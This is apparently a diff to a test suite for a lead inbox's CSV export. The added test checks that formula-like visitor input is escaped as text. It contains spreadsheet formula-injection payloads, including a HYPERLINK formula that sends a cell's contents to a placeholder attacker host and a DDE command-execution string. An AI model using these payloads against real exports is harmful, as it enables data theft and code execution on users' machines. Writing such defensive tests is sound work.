@@ -180,7 +180,8 @@ describe('the lead inbox', () => {
     expect(rows).toEqual([
       expect.objectContaining({
         name: 'Sneha Kulkarni',
-        mobile: '+919000000501',
+        // A leading + would make a spreadsheet read the number as a formula.
+        mobile: "'+919000000501",
         interested_countries: 'Germany',
         verified: 'yes',
         status: 'new',
@@ -189,5 +190,22 @@ describe('the lead inbox', () => {
     ]);
     const all = parse((await asCounsellor('/lead/admin/leads.csv')).body, { columns: true }) as unknown[];
     expect(all.length).toBe((await inbox()).total);
+  });
+
+  it('exports a visitor’s formula-like values as text, so a spreadsheet never runs them', async () => {
+    const formulas = {
+      utm_source: '=HYPERLINK("https://evil.example/?x="&A2,"Open")',
+      utm_medium: '+cmd|/c calc!A0',
+      utm_campaign: '@SUM(1+1)',
+    };
+    const payload = enquiry({ extraFields: formulas });
+    expect((await postEnquiry(t.app, payload)).statusCode).toBe(200);
+    const res = await asCounsellor('/lead/admin/leads.csv', { q: payload.email! });
+    const [row] = parse(res.body, { columns: true }) as Record<string, string>[];
+    expect(row).toMatchObject({
+      utm_source: `'${formulas.utm_source}`,
+      utm_medium: `'${formulas.utm_medium}`,
+      utm_campaign: `'${formulas.utm_campaign}`,
+    });
   });
 });
